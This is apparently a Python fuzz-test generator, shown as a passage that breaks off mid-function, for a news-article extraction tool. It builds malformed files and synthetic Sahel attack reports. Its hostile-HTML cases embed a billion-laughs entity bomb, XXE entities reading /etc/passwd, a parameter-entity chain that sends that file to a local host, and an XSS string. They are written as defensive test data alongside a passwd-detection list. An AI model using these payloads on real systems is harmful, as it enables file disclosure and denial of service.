"""Bad article inputs (and good ones mixed in) for the fuzz tests and ``benchmarks/fuzz.py``.

``build(n, seed)`` gives ``n`` deterministic ``Case`` objects, one input each (a file, a FIFO, a
symbolic link, a folder), in families weighted as in ``WEIGHTS``: binary data, invalid UTF-8, control
bytes, empty and whitespace-only files, 6 MB single lines, 100,000-deep JSON, JSON of the wrong
types, truncated and mixed JSONL, hostile HTML (entity expansion, external entities, 50,000 nested
tags, tag soup), FIFOs, symbolic link loops, files that vanish mid-run, unreadable files and folders,
file names that are not UTF-8, huge but valid articles, odd but readable articles, and GOOD articles
in every format (short news texts written for these tests, in several wordings).

``materialise(cases, folder)`` writes them; ``hostile_fs(layout)`` simulates, inside the process, what
the file system cannot show as root (a ``chmod 000`` file is readable by root) and the removal of a
file after the walk listed it. ``run_like_cli`` sends a folder through ``Pipeline.process`` and the
writers as ``sahel-extract run`` does, catching what escapes and what is logged; ``check`` states the
properties (no crash, no traceback, every good record written, every bad input named, no file or
network access from HTML). Hypothesis strategies for the readers are at the end.
"""

from __future__ import annotations

import contextlib
import errno
import io
import json
import logging
import os
import random
import resource
import shutil
import stat
import sys
import time
import traceback
from collections import defaultdict
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:x:")

# --- good articles -----------------------------------------------------------------------------------

PLACES = [("Djibo", "Burkina Faso"), ("Gao", "Mali"), ("Menaka", "Mali"), ("Kaya", "Burkina Faso"),
          ("Diffa", "Niger"), ("Tillaberi", "Niger"), ("Boulkessi", "Mali"), ("Arbinda", "Burkina Faso"),
          ("Bankass", "Mali"), ("Ansongo", "Mali"), ("Dori", "Burkina Faso"), ("Ouahigouya", "Burkina Faso"),
          ("Banibangou", "Niger"), ("Tessit", "Mali"), ("Titao", "Burkina Faso"), ("Fada N'Gourma", "Burkina Faso")]
ACTORS = ["Gunmen", "Suspected jihadists", "Fighters of the Islamic State Sahel Province",
          "Militants of the al-Qaeda-linked JNIM", "Armed men on motorbikes", "Jihadists"]
VICTIMS = ["soldiers", "civilians", "villagers", "gendarmes", "volunteer fighters", "herders", "traders",
           "police officers"]
WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]
SOURCES = ["residents said", "a security source told AFP", "the army said in a statement",
           "a local official said", "according to a local elected official", "witnesses told Reuters"]
NUMBERS = ["four", "seven", "12", "at least 15", "more than 20", "about 30", "nine", "dozens of", "three", "41"]

TEMPLATES = [
    "{actor} killed {n} {victims} in an attack on {place} in {country} on {day}, {source}. "
    "The assailants arrived at dawn and set fire to shops before leaving.",
    "At least {n} {victims} were killed when {actor_l} stormed {place}, {country}, on {day}, {source}. "
    "Several others were wounded and taken to hospital.",
    "{actor} ambushed a convoy near {place} on {day}, killing {n} {victims}, {source}. "
    "The road to the town has been cut for weeks.",
    "An attack on a military post in {place} on {day} left {n} {victims} dead, {source}. "
    "No group has yet claimed the attack, but {actor_l} are active in the area.",
    "{actor} abducted {n} {victims} from a market in {place} on {day}, {source}. "
    "Kidnappings have become frequent in northern {country}.",
    "The army said it repelled an assault by {actor_l} on its base at {place} on {day}. "
    "It said {n} {victims} were killed and that 14 attackers were neutralised.",
    "A roadside bomb killed {n} {victims} near {place} in {country} on {day}, {source}. "
    "The vehicle was travelling to a weekly market.",
    "{actor} attacked the town of {place} on {day} and killed {n} {victims}, {source}, "
    "adding that the toll could rise.",
]
TEMPLATES_FR = [
    "Des hommes armés ont tué {n_fr} civils lors d'une attaque contre {place} ({country_fr}) {day_fr}, "
    "selon des sources locales. Les assaillants sont arrivés à moto.",
    "Au moins {n_fr} soldats ont été tués dans une embuscade près de {place} {day_fr}, a annoncé l'armée "
    "dans un communiqué.",
]
COUNTRY_FR = {"Mali": "Mali", "Burkina Faso": "Burkina Faso", "Niger": "Niger"}
DAY_FR = ["lundi", "mardi", "mercredi", "jeudi", "vendredi", "samedi", "dimanche"]
NUMBERS_FR = ["quatre", "sept", "12", "au moins 15", "une vingtaine de", "trois"]
TITLES = ["Attack in {place}", "{n_title} killed in {place}", "Gunmen strike {place}", "Deadly raid on {place}",
          "Violence in {country}: {place} attacked"]


def good_text(rng: random.Random, uid: int, words: int = 0) -> tuple[str, str, str]:
    """(title, body, published): a short realistic news text, unique through its reference number; with
    ``words`` the body is padded with further realistic paragraphs up to about that many words."""
    place, country = rng.choice(PLACES)
    published = f"2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
    if rng.random() < 0.12:
        tpl = rng.choice(TEMPLATES_FR)
        body = tpl.format(n_fr=rng.choice(NUMBERS_FR), place=place, country_fr=COUNTRY_FR[country],
                          day_fr=rng.choice(DAY_FR))
    else:
        actor = rng.choice(ACTORS)
        fill = dict(actor=actor, actor_l=actor[0].lower() + actor[1:], n=rng.choice(NUMBERS),
                    victims=rng.choice(VICTIMS), place=place, country=country, day=rng.choice(WEEKDAYS),
                    source=rng.choice(SOURCES))
        body = rng.choice(TEMPLATES).format(**fill)
        if rng.random() < 0.5:
            body += " " + rng.choice(TEMPLATES).format(**{**fill, "place": rng.choice(PLACES)[0],
                                                           "n": rng.choice(NUMBERS)})
    paragraphs = [body]
    size = len(body.split())
    while size < words:
        p, c = rng.choice(PLACES)
        actor = rng.choice(ACTORS)
        par = rng.choice(TEMPLATES).format(actor=actor, actor_l=actor.lower(), n=rng.choice(NUMBERS),
                                           victims=rng.choice(VICTIMS), place=p, country=c,
                                           day=rng.choice(WEEKDAYS), source=rng.choice(SOURCES))
        paragraphs.append(par)
        size += len(par.split())
    paragraphs.append(f"(Ref. {uid}.)")
    title = rng.choice(TITLES).format(place=place, country=country, n_title=rng.choice(["Four", "Seven", "Twelve"]))
    return title, "\n\n".join(paragraphs), published


def html_page(title: str, body: str, published: str, rng: random.Random | None = None) -> str:
    paras = "".join(f"<p>{p}</p>" for p in body.split("\n\n"))
    return ("<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'><title>" + title + " | Sahel Wire</title>"
            f"<meta property='article:published_time' content='{published}'></head><body>"
            "<nav><a href='/'>Home</a><a href='/africa'>Africa</a><a href='/sport'>Sport</a></nav>"
            f"<article><h1>{title}</h1>{paras}</article>"
            "<footer>Copyright 2025 Sahel Wire. All rights reserved. Cookie settings.</footer></body></html>")


# --- the cases -----------------------------------------------------------------------------------------


@dataclass
class Case:
    """One input. ``expect``: ``good`` (clean articles, compared with a run of the good inputs alone),
    ``article`` (odd but readable: at least one article, ``must_contain`` in its text), ``error`` (no
    readable article: the input must be named in the errors file), ``mixed`` (good lines or list items
    with bad ones: the good compared, each bad line in ``bad_lines`` named with its number), ``any``
    (no expectation beyond the global properties)."""

    name: str
    family: str
    data: bytes | None = None
    special: str | None = None
    expect: str = "error"
    good: bytes | None = None  # for mixed: the file with only its good lines/items (the "alone" run)
    bad_lines: list[int] = field(default_factory=list)
    must_contain: str | None = None
    slow: bool = False  # an input expected to take long: huge valid articles, the 300,000-line flood


SUFFIXES = [".txt", ".md", ".json", ".jsonl", ".html"]


def _utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def _rand_bytes(rng: random.Random, n: int) -> bytes:
    return bytes(rng.getrandbits(8) for _ in range(n))


def _json_article(rng: random.Random, uid: int, style: int | None = None) -> tuple[dict, str]:
    title, body, published = good_text(rng, uid)
    style = rng.randrange(2) if style is None else style
    if style == 0:
        return {"title": title, "maintext": body, "date_publish": published + " 08:15:00",
                "url": f"https://sahelwire.example/{uid}", "source_domain": "sahelwire.example"}, body
    return {"title": title, "text": body, "published": published, "publisher": "Sahel Wire"}, body


# each family: rng, uid -> Case (name without the uid prefix is set by build)

def fam_good(rng: random.Random, uid: int) -> Case:
    form = rng.choice(["txt_header", "md_front", "txt_plain", "json", "json_list", "jsonl", "html", "html_latin1"])
    title, body, published = good_text(rng, uid)
    if form == "txt_header":
        return Case("good.txt", "good", f"title: {title}\npublished: {published}\nsource: Sahel Wire\n\n{body}\n"
                    .encode(), expect="good")
    if form == "md_front":
        return Case("good.md", "good", f"---\ntitle: \"{title}\"\npublished: {published}T09:00:00Z\n---\n\n"
                    f"{body}\n".encode(), expect="good")
    if form == "txt_plain":
        return Case("good.txt", "good", f"{title}\n\n{body}\r\n".encode(), expect="good")
    if form == "json":
        obj, _ = _json_article(rng, uid)
        return Case("good.json", "good", json.dumps(obj, indent=rng.choice([None, 2])).encode(), expect="good")
    if form == "json_list":
        objs = [_json_article(rng, uid * 10 + k)[0] for k in range(rng.randint(2, 4))]
        return Case("good.json", "good", json.dumps(objs).encode(), expect="good")
    if form == "jsonl":
        lines = [json.dumps(_json_article(rng, uid * 10 + k)[0]) for k in range(rng.randint(2, 5))]
        return Case("good.jsonl", "good", ("\n".join(lines) + "\n").encode(), expect="good")
    if form == "html":
        return Case("good.html", "good", html_page(title, body, published).encode(), expect="good")
    page = html_page(title, body.replace("Menaka", "Ménaka"), published).replace("charset='utf-8'",
                                                                                 "charset='iso-8859-1'")
    return Case("good_latin1.html", "good", page.encode("latin-1"), expect="good")


MAGIC = [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
         b"PK\x03\x04\x14\x00\x00\x00", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<\x00>>",
         b"\x7fELF\x02\x01\x01\x00", b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
         b"GIF89a\x01\x00\x01\x00\x00\x00\x00", b"\x00\x00\x00\x18ftypmp42\x00\x00"]


def fam_binary(rng: random.Random, uid: int) -> Case:
    suffix = rng.choice(SUFFIXES)
    kind = rng.randrange(4)
    if kind == 0:
        data = rng.choice(MAGIC) + _rand_bytes(rng, rng.randint(10, 4000))
    elif kind == 1:
        data = _rand_bytes(rng, rng.randint(1, 8000))
    elif kind == 2:  # text with a NUL in the middle
        _, body, _ = good_text(rng, uid)
        cut = rng.randrange(len(body))
        data = (body[:cut] + "\x00" + body[cut:]).encode()
    else:  # UTF-16 without a byte-order mark: NULs between the letters
        _, body, _ = good_text(rng, uid)
        data = body.encode("utf-16-le")
    return Case("binary" + suffix, "binary", data, expect="error" if b"\x00" in data or not _utf8(data) else "any")


def fam_invalid_utf8(rng: random.Random, uid: int) -> Case:
    suffix = rng.choice(SUFFIXES)
    _, body, _ = good_text(rng, uid)
    kind = rng.randrange(6)
    if kind == 0:
        data = body.replace("Menaka", "Ménaka").replace("a ", "à ").encode("latin-1")  # latin-1 text
        if b"\xe0" not in data and b"\xe9" not in data:
            data += b" caf\xe9"
    elif kind == 1:
        data = body.encode() + "é".encode()[:1]  # cut inside the é
    elif kind == 2:
        data = body.encode() + b"\xc0\xaf overlong"
    elif kind == 3:
        data = body.encode() + b" \xed\xa0\x80 surrogate"
    elif kind == 4:
        data = b"\x80\x81\xfe\xff" + body.encode()
    else:
        raw = bytearray(body.encode())
        for _ in range(rng.randint(1, 5)):
            raw[rng.randrange(len(raw))] = rng.choice([0x80, 0xbf, 0xc3, 0xf5, 0xff])
        data = bytes(raw)
    if suffix == ".json":
        data = b'{"text": "' + data.replace(b'"', b"'") + b'"}'
    elif suffix == ".jsonl":
        data = b'{"text": "' + data.replace(b'"', b"'").replace(b"\n", b" ") + b'"}\n'
    elif suffix == ".html":
        data = b"<html><body><article><p>" + data + b"</p></article></body></html>"
    return Case("invalid_utf8" + suffix, "invalid_utf8", data, expect="any" if _utf8(data) else "error")


def fam_control(rng: random.Random, uid: int) -> Case:
    """Readable articles with control characters: the article must be read, the controls dropped."""
    title, body, published = good_text(rng, uid)
    marker = body.split(".")[0].split(",")[0][:30]
    ctrl = "".join(chr(c) for c in [1, 2, 7, 8, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f, 0x85, 0x9b])
    noisy = body.replace(". ", "." + rng.choice([ctrl, "\x1b[31m", "\x07\x07", "\x0c", "\u200b\u200e"]) + " ", 2)
    noisy = noisy + " \x1b[0m"
    suffix = rng.choice([".txt", ".md", ".json", ".jsonl", ".json_escape"])
    if suffix == ".json_escape":  # \\u0000 and lone surrogates as JSON escapes
        data = json.dumps({"title": title + "\udc80", "text": noisy.replace(" ", " \u0000", 1) + " \ud800"}).encode()
        return Case("control.json", "control", data, expect="article", must_contain=marker)
    if suffix in (".json", ".jsonl"):
        data = json.dumps({"title": title, "text": noisy}).encode() + b"\n"
    else:
        data = f"{title}\n\n{noisy}\n".encode()
    return Case("control" + suffix, "control", data, expect="article", must_contain=marker)


def fam_empty(rng: random.Random, uid: int) -> Case:
    suffix = rng.choice(SUFFIXES)
    data = rng.choice([b"", b" ", b"\n\n\n", b"\t \r\n \r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\n  \n", b"\x0c\x0b \n",
                       # no letter or digit: crashed the whole run through spaCy (see test_fuzz's xfail)
                       b'"', b" .", b"/", b"...", "— —".encode(), b"_", "\u0301".encode(), b"''", b"- - -\n* * *"])
    if suffix in (".json", ".jsonl") and rng.random() < 0.3:
        data = json.dumps({"text": rng.choice(['"', "...", "— —", "_", "\u0301"])}).encode()
    if suffix == ".json" and rng.random() < 0.6:
        data = rng.choice([b"{}", b"[]", b"null", b'""', b'{"text": ""}', b'{"text": "   \\n  "}', b"[{}]",
                           b'{"title": "Only a title"}'])
    if suffix == ".html" and rng.random() < 0.5:
        data = rng.choice([b"<html></html>", b"<html><body></body></html>", b"<!DOCTYPE html>", b"<p></p>",
                           b"<html><head><title>Title only</title></head><body></body></html>"])
    if suffix == ".jsonl" and rng.random() < 0.4:
        data = rng.choice([b"\n\n\n", b"{}\n", b"[]\n{}\n"])
    return Case("empty" + suffix, "empty", data, expect="error")


def fam_long_line(rng: random.Random, uid: int) -> Case:
    """A 6 MB single line (over the 5 MB limit), or a 4.9 MB one (under it, over the 1M-character limit)."""
    size = rng.choice([6_000_000, 4_900_000])
    suffix = rng.choice([".txt", ".jsonl", ".json", ".html", ".md"])
    word = "Gunmen killed four herders near Djibo residents said "
    line = (word * (size // len(word) + 1))[:size]
    if suffix in (".json", ".jsonl"):
        data = ('{"text": "' + line[: size - 20] + '"}').encode()
    elif suffix == ".html":
        data = ("<html><body><p>" + line[: size - 40] + "</p></body></html>").encode()
    else:
        data = line.encode()
    expect = "any" if suffix == ".html" and size < 5_000_000 else "error"  # trafilatura may shorten the text
    return Case(f"long_line_{size // 100_000}" + suffix, "long_line", data, expect=expect)


def _deep(kind: int, depth: int) -> str:
    if kind == 0:
        return "[" * depth + "]" * depth
    if kind == 1:
        return '{"a":' * depth + "1" + "}" * depth
    if kind == 2:
        return "[" * depth  # truncated
    return '{"text": "Gunmen killed four herders near Djibo.", "extra": ' + "[" * depth + "]" * depth + "}"


def fam_deep_json(rng: random.Random, uid: int) -> Case:
    kind = rng.randrange(5)
    depth = 100_000 if kind < 4 else rng.choice([900, 2000])
    suffix = rng.choice([".json", ".jsonl"])
    text = _deep(kind % 4, depth)
    data = text.encode() + (b"\n" if suffix == ".jsonl" else b"")
    return Case("deep_json" + suffix, "deep_json", data, expect="error")


WRONG_VALUES = ['{"maintext": 5}', '{"text": ["a"]}', "[]", "null", "NaN", "1e999", '"string"', "true", "false",
                '{"text": NaN}', '{"text": Infinity}', '{"text": -Infinity}', '{"maintext": 1e999}',
                '{"text": {"body": "Gunmen killed four herders."}}', '{"text": null}', '{"text": true}',
                '{"text": 12345678901234567890123456789}', "[1, 2, 3]", "[[{}]]", '{"": ""}',
                '{"text": "' + "9" * 5000 + '"', "9" * 5000, '{"text": ' + "9" * 5000 + "}",
                '{"text": "a", "text": 5}', '{"maintext": "", "text": 7}', "[null, null]", '[{"text": 5}]']


def fam_wrong_types(rng: random.Random, uid: int) -> Case:
    """JSON of the wrong types. Some hold a good article beside wrongly typed metadata: read it."""
    suffix = rng.choice([".json", ".jsonl"])
    if rng.random() < 0.3:
        obj, body = _json_article(rng, uid)
        bad_meta = rng.choice(['NaN', '1e999', '-Infinity', '["x", 1]', '{"a": null}', "true", "9" * 5000,
                               '"\\ud800"', '"' + "2025-06-03 " * 50 + '"', "12345678901234567890"])
        key = rng.choice(["title", "url", "date_publish", "published", "source_domain", "extra", "publisher"])
        text = json.dumps(obj)[:-1] + f', "{key}": {bad_meta}}}'
        data = text.encode() + (b"\n" if suffix == ".jsonl" else b"")
        return Case("wrong_meta" + suffix, "wrong_types", data, expect="article", must_contain=body[:25])
    data = rng.choice(WRONG_VALUES).encode() + (b"\n" if suffix == ".jsonl" else b"")
    return Case("wrong_types" + suffix, "wrong_types", data, expect="error")


def _bad_line(rng: random.Random) -> bytes:
    return rng.choice([
        b'{"text": "truncated li', b"\xff\xfe\x00\x01binary", b'{"title": "x", "maintext": "\xe9t\xe9"}',
        ("[" * 100_000).encode(), ('{"a":' * 100_000).encode(), b"NaN", b"null", b"[]", b'{"maintext": 5}',
        b'{"text": ["a"]}', b"1e999", b'"just a string"', b"true", b"{", b"}", b"not json at all",
        b'{"text": "a"} {"text": "b"}', b'{"text": "\x00nul"}', b"\x1b[31m{}\x1b[0m", b'{"text": ""}',
        ("9" * 5000).encode()])


def fam_jsonl_mixed(rng: random.Random, uid: int) -> Case:
    lines: list[bytes] = []
    good: list[bytes] = []
    bad: list[int] = []
    for k in range(rng.randint(3, 12)):
        r = rng.random()
        if r < 0.45:
            obj, _ = _json_article(rng, uid * 100 + k)
            line = json.dumps(obj, ensure_ascii=rng.random() < 0.5).encode()
            good.append(line)
            lines.append(line)
        elif r < 0.55:
            lines.append(rng.choice([b"", b"   ", b"\t"]))  # blank lines are skipped, not errors
        else:
            lines.append(_bad_line(rng))
            bad.append(len(lines))
    if not good:
        obj, _ = _json_article(rng, uid * 100 + 98)
        good.append(json.dumps(obj).encode())
        lines.append(good[-1])
    end = rng.choice([b"\n", b"\r\n"])
    data = end.join(lines)
    if rng.random() < 0.3:  # a truncated last line, no newline
        obj, _ = _json_article(rng, uid * 100 + 99)
        text = json.dumps(obj).encode()
        data += end + text[: rng.randrange(1, len(text) - 1)]
        bad.append(len(lines) + 1)
    else:
        data += end
    return Case("mixed.jsonl", "jsonl_mixed", data, expect="mixed", good=b"\n".join(good) + b"\n", bad_lines=bad)


def fam_flood(rng: random.Random, uid: int) -> Case:
    """A JSONL file of 300,000 broken lines around two good ones: only the first 1,000 bad lines are listed
    (then one record counts the rest), and memory stays flat."""
    first, _ = _json_article(rng, uid * 100)
    last, _ = _json_article(rng, uid * 100 + 1)
    junk = rng.choice([b"[]", b"{}", b"null", b'{"text": 5}', b"\xff"])
    lines = [json.dumps(first).encode()] + [junk] * 300_000 + [json.dumps(last).encode()]
    good = lines[0] + b"\n" + lines[-1] + b"\n"
    return Case("flood.jsonl", "flood", b"\n".join(lines) + b"\n", expect="mixed", good=good,
                bad_lines=list(range(2, 1002)), slow=True)  # 300,000 inputs in one: seconds of throughput


def fam_json_list_mixed(rng: random.Random, uid: int) -> Case:
    items: list[object] = []
    good: list[object] = []
    bad: list[int] = []
    for k in range(rng.randint(2, 8)):
        if rng.random() < 0.5:
            obj, _ = _json_article(rng, uid * 100 + k)
            items.append(obj)
            good.append(obj)
        else:
            items.append(rng.choice([None, 5, "text", [], [1], {}, {"maintext": 5}, {"text": ["a"]}, {"text": ""},
                                     True, {"title": "no text"}]))
            bad.append(len(items))
    if not good:
        obj, _ = _json_article(rng, uid * 100 + 98)
        items.append(obj)
        good.append(obj)
    return Case("mixed_list.json", "json_list_mixed", json.dumps(items).encode(), expect="mixed",
                good=json.dumps(good).encode(), bad_lines=bad)


def billion_laughs(levels: int = 10) -> str:
    decl = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "' + ("&lol;" if i == 1 else f"&lol{i - 1};") * 10 + '">' for i in range(1, levels))
    return f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{decl}]>\n'


def hostile_html(kind: str, title: str, body: str, published: str, url: str = "http://127.0.0.1:9/x") -> str:
    """A news page (with a real article) that also carries one XML/HTML attack."""
    page = html_page(title, body, published)
    if kind == "laughs":
        return billion_laughs() + page.replace("<!DOCTYPE html>", "").replace(
            "</article>", "<p>&lol9;</p></article>")
    if kind == "xxe_file":
        return ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                + page.replace("<!DOCTYPE html>", "").replace("</article>", "<p>Data: &xxe;</p></article>"))
    if kind == "xxe_http":
        return (f'<!DOCTYPE html [<!ENTITY net SYSTEM "{url}">]>\n'
                + page.replace("<!DOCTYPE html>", "").replace("</article>", "<p>Data: &net;</p></article>"))
    if kind == "param":
        return (f'<!DOCTYPE html [<!ENTITY % dtd SYSTEM "{url}"> %dtd; <!ENTITY % file SYSTEM '
                '"file:///etc/passwd"> <!ENTITY % all "<!ENTITY send SYSTEM \'http://127.0.0.1:9/?%file;\'>"> %all;]>'
                + page.replace("<!DOCTYPE html>", "").replace("</article>", "<p>&send;</p></article>"))
    if kind == "external_dtd":
        return f'<!DOCTYPE html SYSTEM "{url}">' + page.replace("<!DOCTYPE html>", "")
    if kind == "xinclude":
        return page.replace("</article>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                            'href="file:///etc/passwd" parse="text"/></article>')
    if kind == "resources":
        return page.replace("</head>", f"<link rel='stylesheet' href='{url}/s.css'><script src='{url}/a.js'>"
                            f"</script><meta http-equiv='refresh' content='0; url={url}'></head>").replace(
            "</article>", f"<img src='{url}/i.png'><iframe src='file:///etc/passwd'></iframe>"
                          f"<object data='file:///etc/passwd'></object><svg><image href='file:///etc/passwd'/></svg>"
                          f"</article>")
    if kind == "entity_refs":
        return page.replace("</article>", "<p>&#x110000; &#0; &#xD800; &#99999999999; &unknown; &amp &lt;"
                            "&nbsp;&#x1F600;</p></article>")
    raise ValueError(kind)


HOSTILE_KINDS = ["laughs", "xxe_file", "xxe_http", "param", "external_dtd", "xinclude", "resources", "entity_refs"]


def fam_html_entities(rng: random.Random, uid: int) -> Case:
    title, body, published = good_text(rng, uid)
    kind = HOSTILE_KINDS[uid % len(HOSTILE_KINDS)]
    return Case(f"hostile_{kind}.html", "html_entities", hostile_html(kind, title, body, published).encode(),
                expect="article", must_contain=body[:25])


NEST_TAGS = ["div", "span", "b", "p", "li", "table", "td", "a", "section", "font", "blockquote", "ul"]


def fam_html_nested(rng: random.Random, uid: int) -> Case:
    tag = rng.choice(NEST_TAGS)
    title, body, published = good_text(rng, uid)
    n = rng.choice([50_000, 50_000, 20_000, 5_000])
    if rng.random() < 0.1:  # 4.9 MB of tags: 1.2 million elements, 400 MB in lxml if parsed
        page = "<html><body>" + "<p>x" * 1_225_000 + "</body></html>"
        return Case("tag_flood.html", "html_nested", page.encode(), expect="error")
    if rng.random() < 0.7:  # nested
        inner = f"<{tag}>" * n + "deep text" + f"</{tag}>" * n
        name = f"nested_{tag}_{n}.html"
    else:  # flat siblings
        inner = f"<{tag}>x</{tag}>" * n if tag not in ("td", "li") else "<ul><li>x</li></ul>" * (n // 2)
        name = f"flat_{tag}_{n}.html"
    page = html_page(title, body, published).replace("</article>", inner + "</article>")
    return Case(name, "html_nested", page.encode(), expect="any")


SOUP = ["<div", "<div>", "</div>", "<p>", "</p>", "<p", "<table>", "<td", "</tr>", "<!--", "-->", "<script>",
        "</script>", "<![CDATA[", "]]>", "&amp", "&#x110000;", "&#99999999;", "&nbsp", "<", ">", "'", '"', "<html/>",
        "<body", "</", "<a href='", "<img src=x onerror=alert(1)>", "<style>", "</style>", "<br/>", "<!doctype",
        "<?php echo 1 ?>", "<svg><foreignObject>", "<math><mi>", "<iframe srcdoc='<p>x</p>'>", "<template>",
        "<noscript>", "<textarea>", "</textarea>", "<title>", "</title>", "<head>", "<frameset>", "\x0c", "=",
        "<meta charset=x-unknown>", "<base href='file:///etc/'>", "<!ENTITY x 'y'>", "<select><option>"]


def fam_html_malformed(rng: random.Random, uid: int) -> Case:
    words = "Gunmen killed four herders near Djibo on Tuesday residents said the army".split()
    tokens = [rng.choice(SOUP) if rng.random() < 0.6 else rng.choice(words) for _ in range(rng.randint(5, 1500))]
    page = " ".join(tokens) if rng.random() < 0.5 else "".join(tokens)
    if rng.random() < 0.4:  # a real article inside the soup
        title, body, published = good_text(rng, uid)
        page = html_page(title, body, published).replace("<nav>", "<nav>" + page[:2000], 1)
    if rng.random() < 0.05:
        page = rng.choice(["http://127.0.0.1:9/x", "https://example.invalid/article", "file:///etc/passwd"])
    return Case("malformed.html", "html_malformed", page.encode("utf-8", "replace"), expect="any")


def fam_unsupported(rng: random.Random, uid: int) -> Case:
    _, body, _ = good_text(rng, uid)
    suffix = rng.choice([".pdf", ".png", "", ".docx", ".xml", ".csv", ".txt~", ".json.gz", ".exe"])
    return Case("unsupported" + suffix, "unsupported", body.encode(), expect="error")


def fam_odd_text(rng: random.Random, uid: int) -> Case:
    """Readable articles with odd but legal content that reaches extraction: absurd numbers, exotic digits,
    strange dates, emoji, right-to-left text, zero-width characters, long words, one-word lines."""
    title, body, published = good_text(rng, uid)
    place = rng.choice(PLACES)[0]
    odd = rng.choice([
        f"Militants killed 9999999999999999999999 soldiers in {place} on Monday, the army said.",
        f"Gunmen killed 1e999 people in {place} on Sunday.",
        f"Jihadists killed -5 soldiers and wounded 0 civilians in {place} on Friday.",
        f"At least ３０ civilians were killed in {place} on Tuesday, residents said.",
        f"At least ٣٠ civilians were killed in {place} on Tuesday, residents said.",
        f"Gunmen killed a trillion billion million villagers in {place} on Monday.",
        f"Gunmen killed {'9' * 400} herders in {place}.",
        f"The attack on {place} on 99/99/9999 killed 12 soldiers; another on 31 February 2025 killed 3.",
        f"Gunmen killed 12 soldiers in {place} in the year 99999 and in 0001.",
        f"🔥🔥 Gunmen killed 12 soldiers in {place} 🔥 on Monday 💀.",
        f"مسلحون قتلوا 12 جنديا في {place} يوم الاثنين. Gunmen killed 12 soldiers in {place}.",
        f"Gun\u200bmen kil\u200dled 1\u200b2 sol\u2060diers in {place}\u200e on Mon\ufeffday.",
        f"Gunmen killed {'12 and ' * 200}12 soldiers in {place} on Monday.",
        f"{'A' * 20000} killed 12 soldiers in {place}.",
        "\n".join(["Gunmen", "killed", "12", "soldiers", "in", place, "on", "Monday."] * 30),
        f"Gunmen killed twelve twelve twelve twelve soldiers in {place} on {'Monday ' * 50}.",
        f"((((((((((Gunmen killed 12 soldiers in {place}))))))))))" * 20,
        f"\"\"\"\"\"\"Gunmen killed 12 soldiers in {place}\"\"\"\" ''''''",
        f"Gunmen killed 12 soldiers in {place} on Monday. " * 30,
        f"{place} {place} {place} {place} killed killed killed 12 12 12 soldiers soldiers.",
        f"Killed: 12. Wounded: 5. Abducted: 1000000000000. Place: {place}. Date: yesterday tomorrow today.",
    ])
    body = body + "\n\n" + odd
    marker = body[:25]
    suffix = rng.choice([".txt", ".json", ".md"])
    if suffix == ".json":
        data = json.dumps({"title": title, "text": body, "published": published}).encode()
    else:
        data = f"{title}\n\n{body}\n".encode()
    return Case("odd_text" + suffix, "odd_text", data, expect="article", must_contain=marker)


SPORT = ("The national football team beat its neighbours two goals to one in the regional final on Sunday evening, "
         "and thousands of supporters celebrated in the streets of the capital until late at night. ")
HUGE_SIZES = ["conflict_3k_words", "sport_100kb", "over_1m_chars", "text_4900kb"]


def fam_huge_valid(rng: random.Random, uid: int) -> Case:
    """Large valid articles: 3,000 words of attack reports, 100 KB of other news around one attack paragraph,
    1.2 MB and 4.9 MB (over the pipeline's 1,000,000-character limit: an extraction error record, after
    ingest read it). Extraction time grows with the square of the length (see test_fuzz's xfail: 100 KB take
    about a minute with the default model, 900 KB over an hour), hence no larger valid sizes."""
    size = HUGE_SIZES[uid % len(HUGE_SIZES)]
    if size.startswith("conflict"):
        title, body, published = good_text(rng, uid, words=3000)
    else:
        title, body, published = good_text(rng, uid)
        target = {"sport_100kb": 100_000, "over_1m_chars": 1_200_000, "text_4900kb": 4_850_000}[size]
        body += "\n\n" + "\n\n".join([SPORT] * (target // len(SPORT)))
    suffix = rng.choice([".txt", ".json", ".html"])
    if suffix == ".json":
        data = json.dumps({"title": title, "text": body, "published": published}).encode()
    elif suffix == ".html":
        data = html_page(title, body, published).encode()
    else:
        data = f"title: {title}\npublished: {published}\n\n{body}\n".encode()
    if size in ("over_1m_chars", "text_4900kb"):
        # trafilatura drops repeated paragraphs: the text of a 1.2 MB page can be short enough to read
        expect = "any" if suffix == ".html" and size == "over_1m_chars" else "error"
        return Case(f"huge_{size}{suffix}", "huge_valid", data, expect=expect, slow=True)
    return Case(f"huge_{size}{suffix}", "huge_valid", data, expect="article", must_contain=body[:25], slow=True)


def fam_special(rng: random.Random, uid: int) -> Case:
    """File-system oddities: FIFOs, link loops, broken links, device links, a file removed after the walk,
    unreadable files and folders, names that are not UTF-8."""
    kind = ["fifo", "dir_loop", "self_link", "broken_link", "dev_link", "vanish", "unreadable", "unreadable_dir",
            "bad_name", "link_to_good"][uid % 10]
    title, body, published = good_text(rng, uid)
    good = f"title: {title}\npublished: {published}\n\n{body}\n".encode()
    if kind == "fifo":
        return Case("fifo" + rng.choice(SUFFIXES), "special", special="fifo", expect="error")
    if kind == "dir_loop":
        return Case("loop_dir", "special", special="dir_loop", expect="error")
    if kind == "self_link":
        return Case("self_link" + rng.choice(SUFFIXES), "special", special="self_link", expect="error")
    if kind == "broken_link":
        return Case("broken_link" + rng.choice(SUFFIXES), "special", special="broken_link", expect="error")
    if kind == "dev_link":
        target = rng.choice(["/dev/zero", "/dev/urandom", "/dev/null"])
        return Case("dev_link" + rng.choice([".jsonl", ".txt", ".json", ".html"]), "special",
                    data=target.encode(), special="dev_link", expect="error")
    if kind == "vanish":
